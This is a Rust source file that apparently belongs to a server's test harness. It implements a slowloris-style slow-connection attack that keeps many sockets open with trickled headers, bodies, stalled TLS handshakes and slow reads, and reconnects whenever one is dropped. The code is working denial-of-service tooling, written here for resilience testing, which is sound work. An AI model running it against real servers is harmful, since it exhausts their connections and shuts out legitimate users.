//! Connections that take their time: each says, or takes, one byte a second.

use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

use crate::clients::wire::reset;

/// What a connection is slow at.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Kind {
    Idle,
    Head,
    Body,
    TlsHandshake,
    Reader,
}

const KINDS: [Kind; 5] = [Kind::Idle, Kind::Head, Kind::Body, Kind::TlsHandshake, Kind::Reader];

/// Each connection has its turn once in this time.
const ROUND: Duration = Duration::from_secs(1);
/// A round is cut into so many pieces: who attacks from many places does not come in step, and on a
/// machine of few processors the attackers must not keep the honest client from its own for long.
const PIECES: usize = 1000;
/// Of a slow reader: so that the server can be rid of little.
const RECV_BUFFER_BYTES: usize = 4096;

impl Kind {
    fn begins(self) -> &'static [u8] {
        match self {
            Self::Idle => b"",
            Self::Head => b"GET / HTTP/1.1\r\nHost: a\r\nX-Slow: ",
            Self::Body => b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 200000\r\n\r\n",
            // A record of 512 bytes, of which come a handshake's first ones.
            Self::TlsHandshake => b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03",
            Self::Reader => b"GET /pattern/1000000 HTTP/1.1\r\nHost: a\r\n\r\n",
        }
    }
}

struct Slow {
    kind: Kind,
    socket: TcpStream,
}

impl Slow {
    fn connect(kind: Kind, http: SocketAddr, tls: SocketAddr) -> io::Result<Self> {
        let address = if kind == Kind::TlsHandshake { tls } else { http };
        let socket = Socket::new(Domain::for_address(address), Type::STREAM, None)?;
        if kind == Kind::Reader {
            socket.set_recv_buffer_size(RECV_BUFFER_BYTES)?;
        }
        socket.connect(&address.into())?;
        socket.set_nonblocking(true)?;
        let mut socket: TcpStream = socket.into();
        socket.write_all(kind.begins())?;
        Ok(Self { kind, socket })
    }

    /// One byte; `false` when the server has hung up.
    fn turn(&mut self) -> bool {
        let done = match self.kind {
            Kind::Idle => {
                return matches!(self.socket.peek(&mut [0]), Err(e) if e.kind() == ErrorKind::WouldBlock);
            }
            Kind::Reader => self.socket.read(&mut [0]),
            Kind::Head | Kind::Body | Kind::TlsHandshake => {
                // What it says meanwhile (408, an alert) is the announcement of its end.
                match self.socket.read(&mut [0]) {
                    Err(error) if error.kind() == ErrorKind::WouldBlock => self.socket.write(b"a"),
                    _ => return false,
                }
            }
        };
        match done {
            Ok(n) => n > 0,
            Err(error) => error.kind() == ErrorKind::WouldBlock,
        }
    }
}

/// How an attack goes.
#[derive(Default, Debug)]
pub(super) struct Progress {
    /// Connections that stand now.
    pub(super) standing: AtomicUsize,
    /// Those that the server had hung up on, and that came again.
    pub(super) again: AtomicU64,
    over: AtomicBool,
}

impl Progress {
    pub(super) fn end(&self) {
        self.over.store(true, Ordering::Relaxed);
    }

    fn is_over(&self) -> bool {
        self.over.load(Ordering::Relaxed)
    }
}

/// Keeps so many connections standing until it is told to end, then resets them all.
pub(super) fn attack(
    [http, tls]: [SocketAddr; 2],
    connections: usize,
    progress: &Progress,
) -> io::Result<()> {
    let mut slow: Vec<Slow> = Vec::with_capacity(connections);
    while slow.len() < connections && !progress.is_over() {
        slow.push(Slow::connect(KINDS[slow.len() % KINDS.len()], http, tls)?);
        progress.standing.store(slow.len(), Ordering::Relaxed);
    }
    let mut piece = 0;
    while !progress.is_over() {
        let began = Instant::now();
        for one in slow.iter_mut().skip(piece).step_by(PIECES) {
            if !one.turn() {
                *one = Slow::connect(one.kind, http, tls)?;
                progress.again.fetch_add(1, Ordering::Relaxed);
            }
        }
        piece = (piece + 1) % PIECES;
        std::thread::sleep((ROUND / PIECES as u32).saturating_sub(began.elapsed()));
    }
    slow.into_iter().for_each(|one| reset(one.socket));
    progress.standing.store(0, Ordering::Relaxed);
    Ok(())
}
